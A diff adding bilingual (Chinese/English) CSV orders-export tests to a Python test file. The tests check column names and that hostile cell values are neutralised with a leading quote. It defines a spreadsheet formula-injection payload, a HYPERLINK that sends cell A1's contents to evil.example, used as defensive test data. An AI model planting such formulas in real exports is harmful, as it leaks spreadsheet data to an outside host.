@@ -12,8 +12,13 @@ from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker
 from models import Member
 from services.clock import Clock
 from services.csvcells import SafeWriter, safe_cell
-from services.exports import ENCODING, ExportKind, write_csv
+from services.export_columns import export_name, file_name, headers
+from services.exports import ENCODING, ExportKind, export_query, write_csv
+from services.order_files import OrderLine, OrderStatus
+from services.order_rules import OrderRules
+from services.orders import OrderService, Source
 from services.points import PointsService
+from tests.support.untranslated import untranslated
 from tests.unit.conftest import GROUP
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -81,3 +86,52 @@ async def test_every_export_writes_a_hostile_name_as_text_and_a_negative_delta_a
         ("'" + HYPERLINK, "10", "'" + DDE),
         ("'" + HYPERLINK, "-5", "'@everyone"),
     ]
+
+
+async def orders_export(
+    session_pool: async_sessionmaker[AsyncSession], language: str
+) -> list[list[str]]:
+    async with session_pool() as session:
+        buffer = io.BytesIO()
+        out = io.TextIOWrapper(buffer, encoding=ENCODING, newline="")
+        await write_csv(session, out, ExportKind.ORDERS, GROUP, "Asia/Shanghai", language=language)
+        out.flush()
+    return list(csv.reader(io.StringIO(buffer.getvalue().decode(ENCODING), newline="")))
+
+
+async def test_the_orders_export_speaks_the_groups_language_and_keeps_a_hostile_title_as_text(
+    session_pool: async_sessionmaker[AsyncSession], chat: int
+) -> None:
+    clock = Clock()
+    line = OrderLine(1, "3012345678901234567", "@小明", 19_900, OrderStatus.PAID, None, None,
+                     title=HYPERLINK)  # fmt: skip
+    async with session_pool() as session, session.begin():
+        orders = OrderService(session, clock, PointsService(session, clock))
+        await orders.record(GROUP, [line], source=Source.IMPORT, rules=OrderRules(),
+                            timezone="Asia/Shanghai")  # fmt: skip
+    zh_header, zh_row = await orders_export(session_pool, "zh")
+    en_header, en_row = await orders_export(session_pool, "en")
+    assert zh_header[:4] + zh_header[7:11] == [
+        "订单编号", "付款时间", "宝贝标题", "买家会员名", "实付金额（元）", "退款金额（元）",
+        "订单状态", "来源",
+    ]  # fmt: skip
+    assert en_header[:4] + en_header[7:11] == [
+        "order_id", "paid_at", "title", "buyer", "amount", "refunded", "status", "source",
+    ]  # fmt: skip
+    assert untranslated(",".join(zh_header)) == []
+    for row in (zh_row, en_row):
+        assert (row[0], row[2], row[3], row[7]) == (
+            "3012345678901234567", "'" + HYPERLINK, "'@小明", "199.00",
+        )  # fmt: skip
+    assert [zh_row[9], zh_row[10], zh_row[12]] == ["已付款", "导入", "等待绑定"]
+    assert [en_row[9], en_row[10], en_row[12]] == ["paid", "import", "waiting"]
+
+
+@pytest.mark.parametrize("kind", list(ExportKind))
+def test_every_export_names_its_columns_in_both_languages_and_matches_its_query(
+    kind: ExportKind,
+) -> None:
+    query = export_query(kind, GROUP, None, None, "Asia/Shanghai")
+    assert len(headers(kind, "zh")) == len(headers(kind, "en")) == len(query.selected_columns)
+    assert untranslated(",".join(headers(kind, "zh")) + export_name(kind, "zh")) == []
+    assert file_name(kind, "en", GROUP) == f"{kind.value}-{GROUP}.csv"
